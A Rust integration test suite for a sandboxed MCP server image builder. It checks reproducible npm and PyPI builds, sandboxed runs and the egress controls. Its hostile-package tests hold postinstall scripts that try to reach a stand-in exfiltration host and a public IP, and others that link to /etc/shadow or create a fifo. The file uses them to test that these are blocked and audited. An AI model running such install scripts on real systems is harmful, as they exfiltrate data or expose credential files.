//! `gigmcp image build` end to end, on real parts: the real helper (bwrap, namespaces,
//! nftables) running the install step, the gateway's egress proxy between it and the package
//! registry (this machine's mirror, on a documentation address the builds opt in to with the
//! address `getent hosts` gives), real npm and pip, the real packages.
//!
//! - the same package built twice gives the same manifest digest (npm and PyPI);
//! - the image has the server-name label, passes `server add`'s layout check, and runs in a
//!   sandbox started by the gateway's launcher: a tool is listed and called over MCP;
//! - an install script that reaches for another host is stopped by the egress, and the audit
//!   shows the denial; an install output with a link to `/etc/shadow`, or a fifo, and a tree
//!   with a device node, are refused by name, and nothing is left at `--out`.
//!
//! Bases are cached under `target/image-build/` (keyed by recipe), so only the first run makes
//! them. Root only: a loud SKIP without root, a failure on CI.

use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use gateway::audit::Auditor;
use gateway::egress::{EgressConfig, EgressShared, StaticResolver};
use gateway::image::build::base::{Bases, Recipe};
use gateway::image::build::check_registry_addresses;
use gateway::image::build::install::Registry;
use gateway::image::build::spec::{Ecosystem, Spec};
use gateway::image::build::tree::{Limits, Links, Tree, TreeError};
use gateway::image::build::{BaseChoice, BuildError, Builder, Request, SERVER_NAME_LABEL};
use gateway::image::oci::{ImageConfig, Index, Manifest};
use gateway::manifest::Manifest as ServerManifest;
use gateway::sandbox::{Helper, SandboxLauncher};
use gateway::store::{ServerRecord, SqliteStore, Store, now_ms};
use gateway::vault::{MasterKey, Vault};
use privhelper_api::Limits as SandboxLimits;
use serde_json::json;
use testkit::env::random_hex;
use testkit::helper::{Harness, PROXY_PORT};
use testkit::netns::{NamedNetns, Netns, ip_ok};
use testkit::registry::{Registry as OciRegistry, RegistryAuth, random_name};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt};

/// Builds share two CPUs: one at a time, so timings mean something.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

const EVERYTHING: &str = "npm:@modelcontextprotocol/server-everything@2026.8.31";
const TIME: &str = "pypi:mcp-server-time==2026.10.19";

fn bases() -> Bases {
    Bases {
        cache: testkit::bins::target_dir().join("image-build-bases"),
    }
}

struct Env {
    h: Harness,
    store: Arc<dyn Store>,
    builder: Builder<SandboxLauncher>,
    out: tempfile::TempDir,
}

/// What a test prepares in the host's network namespace, before its own: the cached bases
/// (mmdebstrap and the Node.js download need the network), the registry's address as this
/// machine resolves it, and a handle on the host's namespace for the relay.
struct Outside {
    host: Netns,
    registry: IpAddr,
    hosts: Vec<&'static str>,
}

fn outside(eco: Ecosystem) -> Outside {
    let b = bases();
    for recipe in [Recipe::runtime(eco), Recipe::builder(eco)] {
        b.ensure(&recipe)
            .unwrap_or_else(|e| panic!("base {}: {e}", recipe.name));
    }
    let hosts = match eco {
        Ecosystem::Npm => vec!["registry.npmjs.org"],
        Ecosystem::Pypi => vec!["pypi.org", "files.pythonhosted.org"],
    };
    let registry = testkit::resolved_address(hosts[0]);
    // The opt-in is checked against the resolution: the right address passes, another one
    // of the same class does not.
    let reg = Registry::for_ecosystem(eco, None).unwrap();
    check_registry_addresses(&reg, &[registry]).unwrap();
    let other = match registry {
        IpAddr::V4(v4) => IpAddr::V4(std::net::Ipv4Addr::from(u32::from(v4) ^ 1)),
        v6 => v6,
    };
    assert!(matches!(
        check_registry_addresses(&reg, &[other]),
        Err(BuildError::AddressNotResolved { .. })
    ));
    Outside {
        host: Netns::current(),
        registry,
        hosts,
    }
}

/// The registry as the egress proxy meets it from the test's namespace: `registry:443` on a
/// link of the test's own (a named namespace holding that address), each connection relayed
/// byte for byte to the same address dialled from the host's namespace (TLS passes through:
/// the proxy verifies the mirror's own certificate). Dropped with the test.
struct Relay {
    _ns: NamedNetns,
}

fn relay(outside: &Outside) -> Relay {
    let addr = outside.registry;
    let ns = NamedNetns::add(testkit::names::unique("gx"));
    ip_ok(&[
        "link", "add", "regA", "type", "veth", "peer", "name", "regB", "netns", &ns.name,
    ]);
    ip_ok(&["addr", "add", "10.250.9.1/30", "dev", "regA"]);
    ip_ok(&["link", "set", "regA", "up"]);
    ip_ok(&["route", "add", &format!("{addr}/32"), "via", "10.250.9.2"]);
    let listener = ns.run(move || {
        ip_ok(&["addr", "add", "10.250.9.2/30", "dev", "regB"]);
        ip_ok(&["addr", "add", &format!("{addr}/32"), "dev", "regB"]);
        ip_ok(&["link", "set", "regB", "up"]);
        std::net::TcpListener::bind((addr, 443)).unwrap()
    });
    let host = Arc::new(outside.host.clone_handle());
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(conn) = conn else { break };
            let host = host.clone();
            std::thread::spawn(move || {
                let up = host.run(move || {
                    std::net::TcpStream::connect_timeout(
                        &std::net::SocketAddr::new(addr, 443),
                        Duration::from_secs(10),
                    )
                });
                let Ok(up) = up else { return };
                let (mut a, mut b) = (conn.try_clone().unwrap(), up.try_clone().unwrap());
                let (mut c, mut d) = (conn, up);
                let t = std::thread::spawn(move || {
                    let _ = std::io::copy(&mut a, &mut b);
                    let _ = b.shutdown(std::net::Shutdown::Write);
                });
                let _ = std::io::copy(&mut d, &mut c);
                let _ = c.shutdown(std::net::Shutdown::Write);
                let _ = t.join();
            });
        }
    });
    Relay { _ns: ns }
}

async fn env(outside: &Outside) -> Env {
    let h = Harness::start(0).await;
    let store: Arc<dyn Store> =
        Arc::new(SqliteStore::open_in(&h.dir.path().join("state")).unwrap());
    let vault = Arc::new(Vault::open(store.clone(), MasterKey::generate().unwrap()).unwrap());
    let ca_pem = h.dir.path().join("gateway-ca.pem");
    let mut config = EgressConfig::new(ca_pem.clone());
    let mut names = StaticResolver::new();
    for host in &outside.hosts {
        names.insert(host, vec![outside.registry]);
    }
    config.resolver = Arc::new(names);
    let shared = EgressShared::new(vault, Auditor::new(store.clone(), "gigmcp"), config).unwrap();
    std::fs::copy(&ca_pem, h.ca_dir.join("gateway-ca.pem")).unwrap();
    testkit::env::chmod(&h.ca_dir.join("gateway-ca.pem"), 0o644);
    let launcher = SandboxLauncher {
        helper: Arc::new(Helper::connected(h.client().await)),
        egress: shared,
        proxy_port: PROXY_PORT,
        ca_bundle: "gateway-ca.pem".into(),
        images: Arc::new(gateway::image::ImageStore::open(&h.images, Default::default()).unwrap()),
        catalog: None,
        limits: SandboxLimits {
            memory_max_bytes: 1 << 30,
            pids_max: 256,
            cpu_percent: 100,
        },
    };
    let builder = Builder {
        runner: launcher,
        bases: bases(),
        images_dir: h.images.clone(),
        data_root: h.data_root.clone(),
    };
    Env {
        h,
        store,
        builder,
        out: tempfile::tempdir().unwrap(),
    }
}

fn request(env: &Env, outside: &Outside, spec: &str, out: &str) -> Request {
    let spec = Spec::parse(spec).unwrap();
    Request {
        base: BaseChoice::Debian(spec.ecosystem()),
        spec,
        out: env.out.path().join(out),
        name: None,
        registry: None,
        registry_addresses: vec![outside.registry],
    }
}

/// The layout's one manifest and its config, read back as a consumer would.
fn read_layout(dir: &Path) -> (gateway::image::digest::Digest, Manifest, ImageConfig) {
    let index = Index::parse(&std::fs::read(dir.join("index.json")).unwrap()).unwrap();
    assert_eq!(index.manifests.len(), 1);
    let d = &index.manifests[0];
    assert!(
        d.annotations
            .contains_key("org.opencontainers.image.ref.name")
    );
    let blob = |digest: &gateway::image::digest::Digest| {
        let bytes = std::fs::read(dir.join("blobs/sha256").join(digest.hex())).unwrap();
        assert_eq!(gateway::image::digest::Digest::of(&bytes), *digest);
        bytes
    };
    let manifest = Manifest::parse(&blob(&d.digest)).unwrap();
    let config = ImageConfig::parse(&blob(&manifest.config.digest)).unwrap();
    assert_eq!(config.rootfs.diff_ids.len(), manifest.layers.len());
    for l in &manifest.layers {
        assert_eq!(blob(&l.digest).len() as u64, l.size);
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("oci-layout")).unwrap(),
        r#"{"imageLayoutVersion":"1.0.0"}"#
    );
    (d.digest.clone(), manifest, config)
}

/// Flattens the layout into `root` with the system's tar (test-only: our own output; the
/// gateway's unpacker is another module's).
fn flatten(layout: &Path, manifest: &Manifest, root: &Path) {
    std::fs::create_dir_all(root).unwrap();
    for l in &manifest.layers {
        let blob = layout.join("blobs/sha256").join(l.digest.hex());
        let st = Command::new("tar")
            .arg("-xzf")
            .arg(&blob)
            .arg("-C")
            .arg(root)
            .status()
            .unwrap();
        assert!(st.success());
    }
}

/// The server manifest an admin would write for the image: its entrypoint and environment.
fn server_manifest(name: &str, config: &ImageConfig) -> serde_json::Value {
    let env: serde_json::Map<String, serde_json::Value> = config
        .config
        .env
        .clone()
        .unwrap_or_default()
        .iter()
        .filter_map(|kv| kv.split_once('='))
        .map(|(k, v)| (k.to_owned(), json!(v)))
        .collect();
    json!({"name": name, "version": "1",
           "command": config.config.entrypoint.clone().unwrap(), "env": env})
}

/// Starts the image's server in a sandbox and calls `tool` over MCP (stdio): returns the
/// tools listed and the call's result.
async fn run_and_call(
    env: &Env,
    layout: &Path,
    manifest: &Manifest,
    config: &ImageConfig,
    tool: &str,
    args: serde_json::Value,
) -> (Vec<String>, serde_json::Value) {
    let name = format!("img{}", random_hex(3));
    let root = env
        .h
        .images
        .join(gateway::image::plan::copied_rootfs(&name));
    flatten(layout, manifest, &root);
    let server = server_manifest(&name, config);
    let parsed = ServerManifest::from_json(&server.to_string()).unwrap();
    let run = gateway::image::plan::plan(&name, Some(&config.config), &parsed, &[]).unwrap();
    gateway::admin::image_layout::check(&root, &run)
        .unwrap_or_else(|e| panic!("server add would refuse the image: {e}"));
    let record = ServerRecord {
        name: name.clone(),
        version: "1".into(),
        image_digest: format!("dir:{name}"),
        manifest: server.to_string(),
        source: "unsigned".into(),
        approved_ranges: Vec::new(),
        installed_ms: now_ms(),
        origin: None,
    };
    let started = Instant::now();
    let launched = env.builder.runner.start(&record).await.expect("sandbox");
    let mut stdin = launched.stdin;
    let mut stdout = tokio::io::BufReader::new(launched.stdout);
    let init = rpc(
        &mut stdin,
        &mut stdout,
        Some(1),
        "initialize",
        json!({"protocolVersion": "2025-06-18", "capabilities": {},
               "clientInfo": {"name": "image-build-test", "version": "1"}}),
    )
    .await;
    assert!(init["result"]["serverInfo"].is_object(), "{init}");
    eprintln!(
        "[image_build] {name}: initialize answered {:?} after start",
        started.elapsed()
    );
    rpc(
        &mut stdin,
        &mut stdout,
        None,
        "notifications/initialized",
        json!({}),
    )
    .await;
    let list = rpc(&mut stdin, &mut stdout, Some(2), "tools/list", json!({})).await;
    let tools: Vec<String> = list["result"]["tools"]
        .as_array()
        .unwrap_or_else(|| panic!("{list}"))
        .iter()
        .filter_map(|t| t["name"].as_str().map(str::to_owned))
        .collect();
    let result = rpc(
        &mut stdin,
        &mut stdout,
        Some(3),
        "tools/call",
        json!({"name": tool, "arguments": args}),
    )
    .await;
    drop(launched.guard);
    (tools, result)
}

/// One JSON-RPC request (or, without an id, a notification) over the server's stdio; the
/// response with that id.
async fn rpc(
    stdin: &mut (impl tokio::io::AsyncWrite + Unpin),
    stdout: &mut (impl tokio::io::AsyncBufRead + Unpin),
    id: Option<u64>,
    method: &str,
    params: serde_json::Value,
) -> serde_json::Value {
    let line = match id {
        Some(id) => json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}),
        None => json!({"jsonrpc": "2.0", "method": method}),
    };
    stdin
        .write_all(format!("{line}\n").as_bytes())
        .await
        .unwrap();
    let Some(id) = id else {
        return serde_json::Value::Null;
    };
    loop {
        let mut text = String::new();
        let n = tokio::time::timeout(Duration::from_secs(60), stdout.read_line(&mut text))
            .await
            .expect("the server did not answer")
            .unwrap();
        assert!(n > 0, "the server closed its stdout");
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(&text)
            && v["id"] == json!(id)
        {
            return v;
        }
    }
}

fn show(e: &BuildError) -> String {
    let mut s = e.to_string();
    let mut src = std::error::Error::source(e);
    while let Some(x) = src {
        s.push_str(&format!(": {x}"));
        src = x.source();
    }
    s
}

#[test]
fn server_everything_builds_twice_to_one_digest_labelled_and_runs_sandboxed() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_everything") {
        return;
    }
    let outside = outside(Ecosystem::Npm);
    testkit::privileged("image_build_everything", 2, move || async move {
        let _relay = relay(&outside);
        let env = env(&outside).await;
        // Cold: the bases are cached (`outside` made them if this is the first run), the
        // package is not.
        let first = env
            .builder
            .build(&request(&env, &outside, EVERYTHING, "a"))
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        let second = env
            .builder
            .build(&request(&env, &outside, EVERYTHING, "b"))
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        eprintln!(
            "[image_build] server-everything: {} in {:?} (install {:?}); again in {:?} (install {:?})",
            first.manifest.digest,
            first.total_time,
            first.install_time,
            second.total_time,
            second.install_time
        );
        assert_eq!(
            first.manifest.digest, second.manifest.digest,
            "the same package built twice must give the same digest"
        );
        // The same base imported from an oci-layout (`--base oci-layout:DIR@sha256:…`) gives
        // the same image.
        let base = bases().ensure(&gateway::image::build::base::NODE).unwrap();
        let base_dir = env.out.path().join("node-base");
        let mut w = gateway::image::build::layout_writer::LayoutWriter::create(&base_dir).unwrap();
        let layer = w
            .copy_layer(&base.layer_path(), &base.descriptor())
            .unwrap();
        let host = gateway::image::oci::Platform::host();
        let base_config = ImageConfig {
            architecture: host.architecture,
            os: host.os,
            created: None,
            config: gateway::image::oci::RunConfig {
                env: Some(gateway::image::build::base::NODE.env()),
                ..Default::default()
            },
            rootfs: gateway::image::oci::RootFs {
                kind: "layers".into(),
                diff_ids: vec![base.record.diff_id.clone()],
            },
        };
        let base_manifest = w.finish(&base_config, vec![layer], "node").unwrap();
        let mut on_imported = request(&env, &outside, EVERYTHING, "c");
        on_imported.base = BaseChoice::OciLayout {
            dir: base_dir,
            digest: base_manifest.digest,
        };
        let third = env
            .builder
            .build(&on_imported)
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        assert_eq!(third.manifest.digest, first.manifest.digest);

        let (digest, manifest, config) = read_layout(&env.out.path().join("a"));
        assert_eq!(digest, first.manifest.digest);
        let labels = config.config.labels.clone().unwrap();
        assert_eq!(
            labels[SERVER_NAME_LABEL],
            "io.github.modelcontextprotocol/server-everything"
        );
        assert_eq!(config.created.as_deref(), Some("1970-01-01T00:00:00Z"));
        let (tools, result) = run_and_call(
            &env,
            &env.out.path().join("a"),
            &manifest,
            &config,
            "echo",
            json!({"message": "built here"}),
        )
        .await;
        assert!(tools.iter().any(|t| t == "echo"), "{tools:?}");
        assert!(result.to_string().contains("built here"), "{result}");
        // Nothing of either build is left in the helper's data root.
        assert_eq!(std::fs::read_dir(&env.h.data_root).unwrap().count(), 0);
    });
}

#[test]
fn mcp_server_time_from_pypi_builds_twice_to_one_digest_and_runs_sandboxed() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_time") {
        return;
    }
    let outside = outside(Ecosystem::Pypi);
    testkit::privileged("image_build_time", 2, move || async move {
        let _relay = relay(&outside);
        let env = env(&outside).await;
        let first = env
            .builder
            .build(&request(&env, &outside, TIME, "a"))
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        let second = env
            .builder
            .build(&request(&env, &outside, TIME, "b"))
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        eprintln!(
            "[image_build] mcp-server-time: {} in {:?} (install {:?})",
            first.manifest.digest, first.total_time, first.install_time
        );
        assert_eq!(first.manifest.digest, second.manifest.digest);
        let (_, manifest, config) = read_layout(&env.out.path().join("a"));
        // From the package's own `<!-- mcp-name: … -->` line.
        assert_eq!(
            config.config.labels.clone().unwrap()[SERVER_NAME_LABEL],
            "io.github.modelcontextprotocol/server-time"
        );
        let (tools, result) = run_and_call(
            &env,
            &env.out.path().join("a"),
            &manifest,
            &config,
            "get_current_time",
            json!({"timezone": "UTC"}),
        )
        .await;
        assert!(tools.iter().any(|t| t == "get_current_time"), "{tools:?}");
        assert!(result.to_string().contains("UTC"), "{result}");
    });
}

/// The latest version the registry publishes, asked of the registry the build uses.
fn latest_npm(name: &str) -> String {
    let url = format!("https://registry.npmjs.org/{}", name.replace('/', "%2f"));
    let out = Command::new("curl")
        .args(["--fail", "--silent", "--show-error", &url])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["dist-tags"]["latest"].as_str().unwrap().to_owned()
}

#[test]
fn server_github_at_its_latest_version_builds_with_its_label_and_layout() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_github") {
        return;
    }
    let outside = outside(Ecosystem::Npm);
    let version = latest_npm("@modelcontextprotocol/server-github");
    testkit::privileged("image_build_github", 2, move || async move {
        let _relay = relay(&outside);
        let env = env(&outside).await;
        let spec = format!("npm:@modelcontextprotocol/server-github@{version}");
        let mut req = request(&env, &outside, &spec, "gh");
        req.name = Some("io.github.modelcontextprotocol/server-github".into());
        let built = env
            .builder
            .build(&req)
            .await
            .unwrap_or_else(|e| panic!("{}", show(&e)));
        eprintln!(
            "[image_build] server-github {version}: {} in {:?}",
            built.manifest.digest, built.total_time
        );
        let (_, manifest, config) = read_layout(&env.out.path().join("gh"));
        assert_eq!(
            config.config.labels.clone().unwrap()[SERVER_NAME_LABEL],
            "io.github.modelcontextprotocol/server-github"
        );
        let root = env.out.path().join("gh-root");
        flatten(&env.out.path().join("gh"), &manifest, &root);
        let server = server_manifest("github", &config);
        let parsed = ServerManifest::from_json(&server.to_string()).unwrap();
        let run = gateway::image::plan::plan("github", Some(&config.config), &parsed, &[]).unwrap();
        gateway::admin::image_layout::check(&root, &run).unwrap();
    });
}

/// A local npm package whose `postinstall` runs `script` (Node.js) in the install sandbox.
fn hostile_package(dir: &Path, script: &str) -> PathBuf {
    let pkg = dir.join(format!("pkg{}", random_hex(3)));
    std::fs::create_dir_all(&pkg).unwrap();
    let name = format!("hostile-{}", random_hex(3));
    std::fs::write(
        pkg.join("package.json"),
        json!({"name": name, "version": "1.0.0", "bin": "index.js",
               "mcpName": "io.example/hostile",
               "scripts": {"postinstall": "node post.js"}})
        .to_string(),
    )
    .unwrap();
    std::fs::write(pkg.join("index.js"), "console.log('hi')\n").unwrap();
    std::fs::write(pkg.join("post.js"), script).unwrap();
    pkg
}

#[test]
fn an_install_script_reaching_another_host_is_stopped_by_the_egress_and_audited() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_exfiltration") {
        return;
    }
    let outside = outside(Ecosystem::Npm);
    testkit::privileged("image_build_exfiltration", 2, move || async move {
        let _relay = relay(&outside);
        let env = env(&outside).await;
        let evil = format!("exfil-{}.example.net", random_hex(4));
        // As curl would: CONNECT through the proxy the environment names. And straight out,
        // past the proxy, to a public address: no route.
        let script = format!(
            r#"
const net = require('net');
const proxy = new URL(process.env.HTTPS_PROXY);
const s = net.connect(+proxy.port, proxy.hostname, () => s.write('CONNECT {evil}:443 HTTP/1.1\r\nHost: {evil}:443\r\n\r\n'));
s.on('data', d => {{
  console.error('proxy said: ' + d.toString().split('\r\n')[0]);
  const direct = net.connect(443, '93.184.216.34');
  direct.setTimeout(3000, () => {{ console.error('direct: timed out'); process.exit(7); }});
  direct.on('connect', () => {{ console.error('direct: CONNECTED'); process.exit(0); }});
  direct.on('error', e => {{ console.error('direct: ' + e.code); process.exit(7); }});
}});
s.on('error', e => {{ console.error('proxy: ' + e.code); process.exit(7); }});
"#
        );
        let pkg = hostile_package(env.out.path(), &script);
        let mut req = request(&env, &outside, &format!("dir:{}", pkg.display()), "evil");
        req.name = Some("io.example/hostile".into());
        let err = env.builder.build(&req).await.unwrap_err();
        let text = show(&err);
        assert!(matches!(err, BuildError::InstallFailed(_)), "{text}");
        assert!(text.contains("proxy said: HTTP/1.1 403"), "{text}");
        assert!(!text.contains("direct: CONNECTED"), "{text}");
        assert!(!env.out.path().join("evil").exists());
        let audit = env.store.audit_recent(1000).unwrap();
        assert!(
            audit.iter().any(|e| e.action == "egress.denied"
                && e.target == format!("{evil}:443")
                && e.detail.contains("not on the egress allowlist")),
            "{audit:#?}"
        );
        assert_eq!(std::fs::read_dir(&env.h.data_root).unwrap().count(), 0);
    });
}

#[test]
fn an_install_output_with_a_link_to_etc_shadow_or_a_fifo_is_refused_by_name() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_hostile_output") {
        return;
    }
    let outside = outside(Ecosystem::Npm);
    testkit::privileged("image_build_hostile_output", 2, move || async move {
        let _relay = relay(&outside);
        let env = env(&outside).await;
        let link = format!("l{}", random_hex(3));
        let fifo = format!("f{}", random_hex(3));
        for (what, script, want) in [
            (
                "link",
                format!("require('fs').symlinkSync('/etc/shadow', __dirname + '/{link}')\n"),
                format!("{link}: a symbolic link to \"/etc/shadow\", which leaves the tree"),
            ),
            (
                "fifo",
                format!("require('child_process').execSync('mkfifo ' + __dirname + '/{fifo}')\n"),
                format!("{fifo}: a fifo"),
            ),
        ] {
            let pkg = hostile_package(env.out.path(), &script);
            let req = request(&env, &outside, &format!("dir:{}", pkg.display()), what);
            let err = env.builder.build(&req).await.unwrap_err();
            let text = show(&err);
            assert!(matches!(err, BuildError::Output(_)), "{text}");
            assert!(text.contains(&want), "{text}");
            assert!(!env.out.path().join(what).exists());
        }
        assert_eq!(std::fs::read_dir(&env.h.data_root).unwrap().count(), 0);
    });
}

#[test]
fn a_tree_with_a_device_node_is_refused_by_name() {
    if !testkit::require_root("a_tree_with_a_device_node_is_refused_by_name") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let name = format!("dev{}", random_hex(3));
    std::fs::create_dir(dir.path().join("node_modules")).unwrap();
    let node = dir.path().join("node_modules").join(&name);
    let st = Command::new("mknod")
        .arg(&node)
        .args(["c", "1", "3"])
        .status()
        .unwrap();
    assert!(st.success());
    match Tree::scan(dir.path(), Limits::APP, Links::Inside) {
        Err(TreeError::Special { path, kind }) => {
            assert_eq!(path, format!("node_modules/{name}"));
            assert_eq!(kind, "a character device");
        }
        other => panic!("{other:?}"),
    }
}

/// The CLI as an operator runs it, from the host's namespace (its egress proxy dials the
/// registry from there), against the harness's helper on its private bus.
fn cli_build(
    env: &Env,
    outside: &Outside,
    state: &Path,
    extra_config: &str,
    args: &[&str],
) -> std::process::Output {
    let config = env.h.dir.path().join("gigmcp.toml");
    std::fs::write(
        &config,
        format!(
            "[sandbox]\nbus = \"{}\"\nimages_dir = \"{}\"\nca_dir = \"{}\"\nproxy_port = {PROXY_PORT}\n\
             pool = \"{}\"\n{extra_config}",
            env.h.address,
            env.h.images.display(),
            env.h.ca_dir.display(),
            testkit::helper::POOL
        ),
    )
    .unwrap();
    let mut cmd = Command::new(testkit::bins::workspace_bin("gigmcp"));
    cmd.arg("--config")
        .arg(&config)
        .arg("--state-dir")
        .arg(state)
        .args(["image", "build"])
        .args(args)
        .arg("--data-root")
        .arg(&env.h.data_root)
        .arg("--cache")
        .arg(bases().cache)
        .arg("--registry-address")
        .arg(outside.registry.to_string());
    outside.host.run(move || cmd.output().unwrap())
}

#[test]
fn the_cli_prints_the_digest_and_audits_the_build_and_the_egress_denials() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    if !testkit::require_root("image_build_cli") {
        return;
    }
    let outside = outside(Ecosystem::Npm);
    // A real registry to push to, on the host's loopback (the CLI runs there).
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let registry = rt.block_on(OciRegistry::start(RegistryAuth::Anonymous));
    let push_to = format!(
        "{}/{}:{}",
        registry.host(),
        random_name("built"),
        random_name("t")
    );
    let registry_config = format!(
        "[[images.registries]]\nhost = \"{}\"\nca_file = \"{}\"\n",
        registry.host(),
        registry.config().ca_file.unwrap().display()
    );
    let stored = move |d: &gateway::image::digest::Digest| registry.stored_blob(d).exists();
    testkit::privileged("image_build_cli", 2, move || async move {
        let env = env(&outside).await;
        let state = env.h.dir.path().join("cli-state");
        let out = env.out.path().join("everything");
        let done = cli_build(
            &env,
            &outside,
            &state,
            &registry_config,
            &[
                EVERYTHING,
                "--base",
                "node",
                "--out",
                out.to_str().unwrap(),
                "--push",
                &push_to,
            ],
        );
        let stdout = String::from_utf8_lossy(&done.stdout).trim().to_owned();
        assert!(
            done.status.success(),
            "{}",
            String::from_utf8_lossy(&done.stderr)
        );
        let (digest, manifest, _) = read_layout(&out);
        assert_eq!(stdout, digest.to_string());
        // Pushed: the registry holds the manifest and every blob, byte for byte.
        let stderr = String::from_utf8_lossy(&done.stderr);
        assert!(
            stderr.contains(&format!("pushed {push_to}@{digest}")),
            "{stderr}"
        );
        assert!(stored(&digest) && stored(&manifest.config.digest));
        assert!(manifest.layers.iter().all(|l| stored(&l.digest)));

        let evil = format!("exfil-{}.example.net", random_hex(4));
        let pkg = hostile_package(
            env.out.path(),
            &format!(
                "const net = require('net'); const p = new URL(process.env.HTTPS_PROXY);\n\
                 const s = net.connect(+p.port, p.hostname, () => s.write('CONNECT {evil}:443 HTTP/1.1\\r\\n\\r\\n'));\n\
                 s.on('data', d => {{ console.error('proxy said: ' + d.toString().split('\\r\\n')[0]); process.exit(3); }});\n"
            ),
        );
        let refused_out = env.out.path().join("refused");
        let refused = cli_build(
            &env,
            &outside,
            &state,
            "",
            &[
                &format!("dir:{}", pkg.display()),
                "--base",
                "node",
                "--out",
                refused_out.to_str().unwrap(),
            ],
        );
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert!(!refused.status.success());
        assert!(stderr.contains("proxy said: HTTP/1.1 403"), "{stderr}");
        assert!(!refused_out.exists());

        let audit = SqliteStore::open_in(&state)
            .unwrap()
            .audit_recent(1000)
            .unwrap();
        let build = |outcome: &str| {
            audit.iter().any(|e| {
                e.action == "image.build"
                    && e.outcome == outcome
                    && e.detail
                        .contains(&format!("registry_address={}", outside.registry))
            })
        };
        assert!(build("ok") && build("failed"), "{audit:#?}");
        assert!(
            audit.iter().any(|e| e.action == "image.build"
                && e.detail.contains(&format!("pushed={push_to}@{stdout}"))),
            "{audit:#?}"
        );
        assert!(
            audit
                .iter()
                .any(|e| e.action == "image.build" && e.detail.contains(&stdout)),
            "{audit:#?}"
        );
        assert!(
            audit.iter().any(|e| e.action == "egress.denied"
                && e.target == format!("{evil}:443")
                && e.detail.contains("not on the egress allowlist")),
            "{audit:#?}"
        );
    });
}
